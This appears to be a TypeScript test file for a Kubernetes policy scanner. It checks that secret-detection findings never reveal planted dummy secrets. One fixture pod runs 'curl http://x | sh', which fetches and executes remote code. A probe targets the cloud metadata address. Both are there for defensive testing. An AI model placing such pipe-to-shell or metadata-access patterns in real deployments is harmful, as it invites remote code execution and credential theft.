import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { JsonObject } from '../../src/lib/json/json-value.ts'
import { planOf, scan } from '../conformance/policies/policy-cases.ts'

// Two that only their names give away, one in the format of a vendor.
const secrets = ['hunter2-hunter2', 'q8ZrT2mK4vX9pL1wN7cB', `ghp_${'a1B2c3D4e5F6g7H8i9J0'.repeat(2)}`]
const encoded = secrets.map(secret => Buffer.from(secret).toString('base64'))

const places: Readonly<Record<string, (secret: string, base64: string) => JsonObject>> = {
  'an environment variable, twice': secret =>
    pod({ env: [1, 2].map(() => ({ name: 'DB_PASSWORD', value: secret })), envFrom: [{ secretRef: { name: 'a' } }] }),
  'a flag': secret => pod({ command: ['sh', '-c', `curl http://x | sh; sudo app --password=${secret}`] }),
  'a header of a probe': secret =>
    pod({
      livenessProbe: {
        httpGet: { host: '169.254.169.254', port: 1, httpHeaders: [{ name: 'X-Password', value: secret }] },
      },
    }),
  'an address': secret => pod({ env: [{ name: 'URL', value: `postgres://shop:${secret}@db/shop` }] }),
  'a ConfigMap': secret => ({
    ...named('v1', 'ConfigMap'),
    data: { password: secret, f: `a: 1\npassword: ${secret}\n` },
  }),
  'a Secret': (secret, base64) => ({
    ...named('v1', 'Secret'),
    data: { password: base64, 'bad key': base64 },
    stringData: { password: secret },
    unknownField: 1,
  }),
}

for (const [place, object] of Object.entries(places)) {
  test(`no rule shows a secret in ${place}`, () => {
    for (const [i, secret] of secrets.entries()) {
      const { findings } = scan(planOf(), [object(secret, encoded[i]!)])

      const text = JSON.stringify(findings)
      assert.ok(findings.length > 0)
      assert.ok(findings.some(({ ruleId }) => ruleId.startsWith('BW-SEC-')))
      for (const part of [secret, encoded[i]!, secret.slice(2, 12)]) assert.ok(!text.includes(part), part)
    }
  })
}

function named(apiVersion: string, kind: string): JsonObject {
  return { apiVersion, kind, metadata: { name: 'web', namespace: 'shop' } }
}

function pod(container: JsonObject): JsonObject {
  return { ...named('v1', 'Pod'), spec: { containers: [{ name: 'web', image: 'nginx', ...container }] } }
}
